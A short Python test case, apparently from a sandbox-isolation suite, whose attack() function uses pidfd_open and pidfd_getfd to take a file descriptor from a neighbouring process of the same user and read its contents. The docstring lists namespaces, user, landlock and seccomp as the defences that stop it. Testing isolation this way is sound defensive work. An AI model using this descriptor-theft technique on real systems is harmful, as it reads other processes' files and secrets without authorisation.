"""Takes a descriptor out of another process of the same user's.

stopped by: namespaces, user, landlock, seccomp
"""


def attack():
    process = syscall("pidfd_open", NEIGHBOUR_PID, 0)
    return search(NEIGHBOUR, os.pread(syscall("pidfd_getfd", process, NEIGHBOUR_FILE_DESCRIPTOR, 0), 100, 0))
